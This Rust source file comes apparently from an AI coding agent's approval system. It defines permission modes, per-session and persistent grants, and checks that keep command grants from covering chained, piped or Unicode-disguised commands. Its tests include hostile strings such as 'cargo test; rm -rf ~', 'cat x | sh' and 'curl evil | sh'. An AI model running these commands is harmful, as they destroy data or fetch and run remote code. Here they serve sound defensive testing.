//! Approvals: the actions that need the person's yes, the grants they gave (for this session,
//! or always in a project, kept in MARVIN_HOME/approvals.json), and the permission modes.

use std::collections::HashSet;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Mutex, MutexGuard, PoisonError};

use crate::store::{Warnings, approvals};

/// How much Marvin may do without asking (DESIGN.md "Interactions"). Config chooses the mode
/// of a run; a bare `ToolSettings` (tests, tools used as a library) asks nothing.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum PermissionMode {
    /// Ask before commands, git writes and file writes.
    Default,
    /// Ask only before commands; file edits go ahead.
    AcceptEdits,
    /// Read-only: tools that write are not offered.
    Plan,
    /// Never ask.
    #[default]
    Bypass,
}

impl PermissionMode {
    pub const NAMES: [&'static str; 4] = ["default", "accept-edits", "plan", "bypass"];

    pub fn parse(name: &str) -> Option<Self> {
        match name.trim() {
            "default" => Some(Self::Default),
            "accept-edits" => Some(Self::AcceptEdits),
            "plan" => Some(Self::Plan),
            "bypass" => Some(Self::Bypass),
            _ => None,
        }
    }

    pub fn name(self) -> &'static str {
        Self::NAMES[self as usize]
    }
}

/// What sort of action needs approval.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ActionKind {
    /// A shell command.
    Command,
    /// A file change.
    Edit,
    /// Anything else that acts: git writes, sub-agents, package installs.
    Act,
}

/// An action waiting for approval.
#[derive(Debug, Clone, PartialEq)]
pub struct Action {
    pub tool: String,
    pub kind: ActionKind,
    /// The exact action, e.g. `run_command:cargo test --release` or `apply_patch:src/main.rs`.
    pub key: String,
    /// The key a session or `always` grant is kept under when it is not `key` itself
    /// (`run_command:cargo test`, which covers `cargo test --release`), or when `key` needs
    /// its own words, with those words for the prompt (`` `cargo test …` ``).
    pub scope: Option<(String, String)>,
    pub summary: String,
    pub detail: String,
}

impl Action {
    pub fn command(command: &str) -> Action {
        let shown = visible(command);
        let summary = if shown == command {
            "run_command wants to run:".to_string()
        } else {
            "run_command wants to run (unusual characters shown as <U+…>):".to_string()
        };
        Action {
            tool: "run_command".into(),
            kind: ActionKind::Command,
            key: format!("run_command:{command}"),
            scope: command_scope(command).map(|words| {
                // One word (`ls`) covers that program without arguments only.
                let label = match words.contains(' ') {
                    true => format!("`{words} …`"),
                    false => format!("`{words}` without arguments"),
                };
                (format!("run_command:{words}"), label)
            }),
            summary,
            detail: shown,
        }
    }

    /// A file change. A change under a `.git` directory is treated as a command: git runs
    /// programs named in its configuration and hooks, so even accept-edits asks first.
    pub fn edit(tool: &str, path: &str, diff: String) -> Action {
        let (kind, summary) = if touches_git_internals(path) {
            (
                ActionKind::Command,
                format!(
                    "{tool} wants to change git's configuration or internals ({}), which can make git run commands:",
                    visible(path)
                ),
            )
        } else {
            (
                ActionKind::Edit,
                format!("{tool} wants to change {}:", visible(path)),
            )
        };
        let key = format!("{tool}:{path}");
        Action {
            tool: tool.into(),
            kind,
            scope: Some((key.clone(), format!("{tool} changes to {}", visible(path)))),
            key,
            summary,
            detail: diff,
        }
    }

    pub fn act(tool: &str, summary: String, detail: String) -> Action {
        Action {
            tool: tool.into(),
            kind: ActionKind::Act,
            key: tool.into(),
            scope: None,
            summary,
            detail,
        }
    }

    /// The key a grant is stored under.
    pub fn grant_key(&self) -> &str {
        self.scope.as_ref().map_or(&self.key, |(key, _)| key)
    }

    /// What a session or `always` grant of this action covers, in words for the prompt:
    /// `` `cargo test …` ``, `apply_patch changes to src/main.rs`, `every git_commit call`.
    pub fn covers(&self) -> String {
        match &self.scope {
            Some((_, label)) => label.clone(),
            None if self.key == self.tool => format!("every {} call", self.tool),
            None if self.tool == "run_command" => "this exact command".into(),
            None => format!("this same {} call", self.tool),
        }
    }
}

/// The program and subcommand of a simple command (`cargo test`, `git status`, `ls`), which is
/// what a grant for it covers. `None` (the exact command only) for anything a prefix cannot
/// safely stand for: command lists, pipes, substitutions, redirections, a program whose next
/// word is an option (`cargo --version` must not cover `cargo install …`), or a command with
/// any separator bash does not split on the same way: words are split on ASCII space and tab
/// only, so `cargo<NBSP>test<NBSP>/../x.sh` (one word to bash) gets no scope.
pub(crate) fn command_scope(command: &str) -> Option<String> {
    if command.chars().any(|c| {
        is_odd(c)
            || matches!(
                c,
                ';' | '&'
                    | '|'
                    | '`'
                    | '$'
                    | '('
                    | ')'
                    | '<'
                    | '>'
                    | '\n'
                    | '\\'
                    | '"'
                    | '\''
                    | '*'
                    | '?'
            )
    }) {
        return None;
    }
    let mut words = command.split([' ', '\t']).filter(|word| !word.is_empty());
    let program = words.next()?;
    if program.contains('=') {
        return None; // VAR=value cmd: the environment is part of what runs
    }
    match words.next() {
        None => Some(program.to_string()),
        Some(sub)
            if sub
                .chars()
                .all(|c| c.is_ascii_alphanumeric() || c == '-' || c == '_')
                && !sub.starts_with('-') =>
        {
            Some(format!("{program} {sub}"))
        }
        Some(_) => None,
    }
}

/// A character that is not what it looks like in a command: whitespace other than space, tab
/// and newline, control characters, and invisible formatting characters.
fn is_odd(c: char) -> bool {
    if matches!(c, ' ' | '\t' | '\n') {
        return false;
    }
    c.is_whitespace()
        || c.is_control()
        || matches!(
            c,
            '\u{ad}'
                | '\u{34f}'
                | '\u{61c}'
                | '\u{115f}'
                | '\u{1160}'
                | '\u{17b4}'
                | '\u{17b5}'
                | '\u{180b}'..='\u{180f}'
                | '\u{200b}'..='\u{200f}'
                | '\u{202a}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}'
                | '\u{3164}'
                | '\u{fe00}'..='\u{fe0f}'
                | '\u{feff}'
                | '\u{ffa0}'
                | '\u{fff0}'..='\u{fffb}'
                | '\u{e0000}'..='\u{e0fff}'
        )
}

/// `text` with every odd character written out as `<U+00A0>`, so an approval shows what
/// will really run.
pub(crate) fn visible(text: &str) -> String {
    let mut shown = String::with_capacity(text.len());
    for c in text.chars() {
        if is_odd(c) {
            shown.push_str(&format!("<U+{:04X}>", c as u32));
        } else {
            shown.push(c);
        }
    }
    shown
}

/// Whether any of the paths (several are joined with ", ") lies in a `.git` directory or is a
/// `.git` file, in any letter case, invisible characters ignored.
fn touches_git_internals(paths: &str) -> bool {
    // Spaces too: a path reached through a symlink is named `link (that is .git/config)`.
    paths.split(['/', '\\', ',', ' ']).any(|part| {
        let part: String = part.trim().chars().filter(|c| !is_odd(*c)).collect();
        part.eq_ignore_ascii_case(".git")
    })
}

/// Is `grant` good for `action`? The exact key, or the scope of a simple command.
fn covers(grant: &str, action: &Action) -> bool {
    grant == action.key
        || action
            .scope
            .as_ref()
            .is_some_and(|(scope, _)| scope == grant)
}

/// The grants of a session, and the `always` grants of its project.
#[derive(Default)]
pub struct Grants {
    session: Mutex<HashSet<String>>,
    /// "Allow all file edits in this session": a `default` session acts as `accept-edits`
    /// from then on. Never saved.
    all_edits: AtomicBool,
    /// Held while an approval is asked, so that the calls of one round ask one at a time and
    /// each sees what the answer before it granted.
    asking: Mutex<()>,
    store: Option<PathBuf>,
    project: String,
    /// Where a store file moved aside is told (the session's warnings).
    warnings: Warnings,
}

impl Grants {
    /// `store` is where the `always` grants are kept (`store::approvals::file`); `project` the
    /// working directory they belong to.
    pub fn new(store: Option<PathBuf>, project: &Path, warnings: Warnings) -> Self {
        Self {
            session: Mutex::default(),
            all_edits: AtomicBool::new(false),
            asking: Mutex::default(),
            store,
            project: project.display().to_string(),
            warnings,
        }
    }

    pub fn granted(&self, action: &Action) -> bool {
        let session = self.session.lock().unwrap_or_else(PoisonError::into_inner);
        session.iter().any(|g| covers(g, action)) || self.always().iter().any(|g| covers(g, action))
    }

    /// The permission mode in effect for a session started in `mode`: `accept-edits` once
    /// all file edits were allowed in a `default` session.
    pub fn mode(&self, mode: PermissionMode) -> PermissionMode {
        match mode {
            PermissionMode::Default if self.all_edits.load(Ordering::SeqCst) => {
                PermissionMode::AcceptEdits
            }
            mode => mode,
        }
    }

    /// Taken while an approval is asked: the next one waits for its answer.
    pub(crate) fn one_at_a_time(&self) -> MutexGuard<'_, ()> {
        self.asking.lock().unwrap_or_else(PoisonError::into_inner)
    }

    /// Remembers a grant; `Once` remembers nothing, `AllEdits` only for a file edit.
    pub fn grant(&self, action: &Action, scope: super::Scope) -> Result<(), String> {
        let key = action.grant_key().to_string();
        match scope {
            super::Scope::Once => Ok(()),
            super::Scope::AllEdits => {
                if action.kind == ActionKind::Edit {
                    self.all_edits.store(true, Ordering::SeqCst);
                }
                Ok(())
            }
            super::Scope::Session => {
                self.session
                    .lock()
                    .unwrap_or_else(PoisonError::into_inner)
                    .insert(key);
                Ok(())
            }
            super::Scope::Always => self.update(|grants| {
                if !grants.contains(&key) {
                    grants.push(key);
                }
            }),
        }
    }

    /// The `always` grants of this project.
    pub fn always(&self) -> Vec<String> {
        let Some(path) = &self.store else {
            return Vec::new();
        };
        approvals::load(path, &self.warnings).remove(&self.project)
    }

    /// Removes an `always` grant; false when there was none.
    pub fn revoke(&self, key: &str) -> Result<bool, String> {
        let mut found = false;
        self.update(|grants| {
            let before = grants.len();
            grants.retain(|g| g != key);
            found = grants.len() != before;
        })?;
        Ok(found)
    }

    fn update(&self, change: impl FnOnce(&mut Vec<String>)) -> Result<(), String> {
        let Some(path) = &self.store else {
            return Err("there is no MARVIN_HOME to keep approvals in".into());
        };
        let mut file = approvals::load(path, &self.warnings);
        let grants = file.grants_mut(&self.project);
        change(grants);
        if grants.is_empty() {
            file.remove(&self.project);
        }
        approvals::save(path, &file).map_err(|unsaved| {
            format!(
                "cannot save approvals to {}: {}",
                unsaved.path.display(),
                unsaved.error
            )
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::interact::Scope;
    use crate::test_support::TempDir;

    #[test]
    fn command_scopes_cover_only_simple_commands() {
        let cases: &[(&str, Option<&str>)] = &[
            ("cargo test --release", Some("cargo test")),
            ("git status", Some("git status")),
            ("ls", Some("ls")),
            ("ls -la", None),
            ("cargo --version", None),
            ("npm run build", Some("npm run")),
            ("cargo test; rm -rf ~", None),
            ("cat x | sh", None),
            ("echo $(whoami)", None),
            ("FOO=1 make", None),
            ("rm -rf *", None),
            ("cargo\ttest", Some("cargo test")),
            ("cargo  test   --release", Some("cargo test")),
            ("cargo\u{a0}test\u{a0}/../../bin/sh x.sh", None),
            ("cargo test\u{a0}/../../bin/sh", None),
            ("cargo\u{2003}test", None),
            ("cargo\u{3000}test", None),
            ("cargo test\r", None),
            ("cargo\u{b}test", None),
            ("cargo\u{200b} test", None),
            ("git status\u{feff}", None),
        ];
        for (command, expected) in cases {
            assert_eq!(command_scope(command).as_deref(), *expected, "{command}");
        }
    }

    #[test]
    fn odd_characters_are_shown_and_get_no_scope() {
        let action = Action::command("cargo\u{a0}test\u{a0}/../../bin/sh x.sh");
        assert_eq!(action.detail, "cargo<U+00A0>test<U+00A0>/../../bin/sh x.sh");
        assert_eq!(
            action.summary,
            "run_command wants to run (unusual characters shown as <U+…>):"
        );
        assert_eq!(action.scope, None);
        assert_eq!(
            action.key,
            "run_command:cargo\u{a0}test\u{a0}/../../bin/sh x.sh"
        );
        let grants = Grants::default();
        grants
            .grant(&Action::command("cargo test"), Scope::Session)
            .unwrap();
        assert!(!grants.granted(&action));
        assert!(grants.granted(&Action::command("cargo test --release")));
        let cases: &[(&str, &str)] = &[
            ("ls -la\nrm x", "ls -la\nrm x"),
            ("a\tb", "a\tb"),
            ("echo\rhidden", "echo<U+000D>hidden"),
            ("x\u{200b}y\u{202e}z", "x<U+200B>y<U+202E>z"),
            ("tag\u{e0041}", "tag<U+E0041>"),
            ("café ✓", "café ✓"),
        ];
        for (text, shown) in cases {
            assert_eq!(visible(text), *shown, "{text:?}");
        }
        assert_eq!(Action::command("ls").summary, "run_command wants to run:");
    }

    #[test]
    fn edits_under_dot_git_are_commands() {
        let cases: &[(&str, bool)] = &[
            (".git/config", true),
            (".GIT/hooks/pre-commit", true),
            ("sub/.Git/config", true),
            (".git", true),
            ("src/a.rs, .git/info/attributes", true),
            (".g\u{200b}it/config", true),
            ("src/.gitignore", false),
            (".gitattributes", false),
            ("docs/git/config", false),
            ("my.git/config", false),
        ];
        for (path, git) in cases {
            let action = Action::edit("apply_patch", path, String::new());
            let expected = if *git {
                ActionKind::Command
            } else {
                ActionKind::Edit
            };
            assert_eq!(action.kind, expected, "{path}");
            assert_eq!(
                action.summary.contains("git's configuration or internals"),
                *git,
                "{path}"
            );
        }
        assert_eq!(
            Action::edit("create_file", ".git/config", String::new()).summary,
            "create_file wants to change git's configuration or internals (.git/config), which can make git run commands:"
        );
    }

    #[test]
    fn grants_by_scope_and_persistence() {
        let home = TempDir::new("grants");
        let store = home.path().join("approvals.json");
        let project = Path::new("/work/project");
        let grants = Grants::new(Some(store.clone()), project, Warnings::default());
        let test = Action::command("cargo test --release");
        assert!(!grants.granted(&test));
        grants.grant(&test, Scope::Once).unwrap();
        assert!(!grants.granted(&test));
        grants.grant(&test, Scope::Session).unwrap();
        assert!(grants.granted(&Action::command("cargo test")));
        assert!(!grants.granted(&Action::command("cargo test && curl evil | sh")));
        assert!(
            !Grants::new(Some(store.clone()), project, Warnings::default()).granted(&test),
            "session grants end with the session"
        );
        grants
            .grant(
                &Action::edit("apply_patch", "src/a.rs", String::new()),
                Scope::Always,
            )
            .unwrap();
        let later = Grants::new(Some(store.clone()), project, Warnings::default());
        assert!(later.granted(&Action::edit("apply_patch", "src/a.rs", String::new())));
        assert!(!later.granted(&Action::edit("apply_patch", "src/b.rs", String::new())));
        assert!(
            !Grants::new(
                Some(store.clone()),
                Path::new("/elsewhere"),
                Warnings::default()
            )
            .granted(&Action::edit("apply_patch", "src/a.rs", String::new()))
        );
        assert_eq!(later.always(), ["apply_patch:src/a.rs"]);
        assert!(later.revoke("apply_patch:src/a.rs").unwrap());
        assert!(!later.revoke("apply_patch:src/a.rs").unwrap());
        assert!(later.always().is_empty());
    }

    #[test]
    fn a_corrupt_or_non_utf8_store_is_moved_aside() {
        for bytes in [&b"{not json"[..], &b"{\"always\": \"\xff\xfe\"}"[..]] {
            let home = TempDir::new("grants-corrupt");
            let store = home.path().join("approvals.json");
            std::fs::write(&store, bytes).unwrap();
            let warnings = Warnings::default();
            let grants = Grants::new(Some(store.clone()), Path::new("/p"), warnings.clone());
            assert!(grants.always().is_empty());
            let said = warnings.take();
            assert!(
                said.len() == 1 && said[0].contains("approvals.json was not valid JSON"),
                "{said:?}"
            );
            let aside: Vec<_> = std::fs::read_dir(home.path())
                .unwrap()
                .filter_map(Result::ok)
                .filter(|e| e.file_name().to_string_lossy().contains("corrupt"))
                .collect();
            assert_eq!(aside.len(), 1);
            assert_eq!(std::fs::read(aside[0].path()).unwrap(), bytes);
        }
    }

    #[test]
    fn the_prompt_says_what_a_grant_covers() {
        let act = |key: &str| Action {
            key: key.into(),
            ..Action::act("launch_agent", String::new(), String::new())
        };
        let cases: &[(Action, &str)] = &[
            (Action::command("cargo test --release"), "`cargo test …`"),
            (Action::command("ls"), "`ls` without arguments"),
            (Action::command("ls -la"), "this exact command"),
            (Action::command("cat x | sh"), "this exact command"),
            (
                Action::edit("apply_patch", "src/main.rs", String::new()),
                "apply_patch changes to src/main.rs",
            ),
            (
                Action::edit("create_file", ".git/config", String::new()),
                "create_file changes to .git/config",
            ),
            (
                Action::act("git_commit", String::new(), String::new()),
                "every git_commit call",
            ),
            (
                act("launch_agent:{\"task\": 1}"),
                "this same launch_agent call",
            ),
        ];
        for (action, covers) in cases {
            assert_eq!(action.covers(), *covers, "{}", action.key);
        }
        // The words match the grant: an edit's grant is its exact key.
        let edit = Action::edit("apply_patch", "src/main.rs", String::new());
        assert_eq!(edit.grant_key(), "apply_patch:src/main.rs");
        let grants = Grants::default();
        grants
            .grant(&Action::command("ls"), Scope::Session)
            .unwrap();
        assert!(grants.granted(&Action::command("ls")));
        assert!(!grants.granted(&Action::command("ls -la")));
        assert!(!grants.granted(&Action::command("ls src")));
    }

    #[test]
    fn all_edits_turn_a_default_session_into_accept_edits() {
        let grants = Grants::default();
        let modes = |grants: &Grants| {
            PermissionMode::NAMES.map(|name| grants.mode(PermissionMode::parse(name).unwrap()))
        };
        use PermissionMode::*;
        assert_eq!(modes(&grants), [Default, AcceptEdits, Plan, Bypass]);
        // Given with a command, it grants nothing more.
        grants
            .grant(&Action::command("make"), Scope::AllEdits)
            .unwrap();
        assert_eq!(modes(&grants), [Default, AcceptEdits, Plan, Bypass]);
        assert!(!grants.granted(&Action::command("make")));
        grants
            .grant(
                &Action::edit("apply_patch", "a.rs", String::new()),
                Scope::AllEdits,
            )
            .unwrap();
        assert_eq!(modes(&grants), [AcceptEdits, AcceptEdits, Plan, Bypass]);
        let home = TempDir::new("grants-all-edits");
        let store = home.path().join("approvals.json");
        let project = Path::new("/p");
        let grants = Grants::new(Some(store.clone()), project, Warnings::default());
        grants
            .grant(
                &Action::edit("apply_patch", "a.rs", String::new()),
                Scope::AllEdits,
            )
            .unwrap();
        assert!(grants.always().is_empty() && !store.exists(), "never saved");
        let later = Grants::new(Some(store), project, Warnings::default());
        assert_eq!(later.mode(Default), Default, "it ends with the session");
    }

    #[test]
    fn modes_parse_by_name() {
        for name in PermissionMode::NAMES {
            assert_eq!(PermissionMode::parse(name).unwrap().name(), name);
        }
        assert_eq!(PermissionMode::parse("yolo"), None);
    }
}
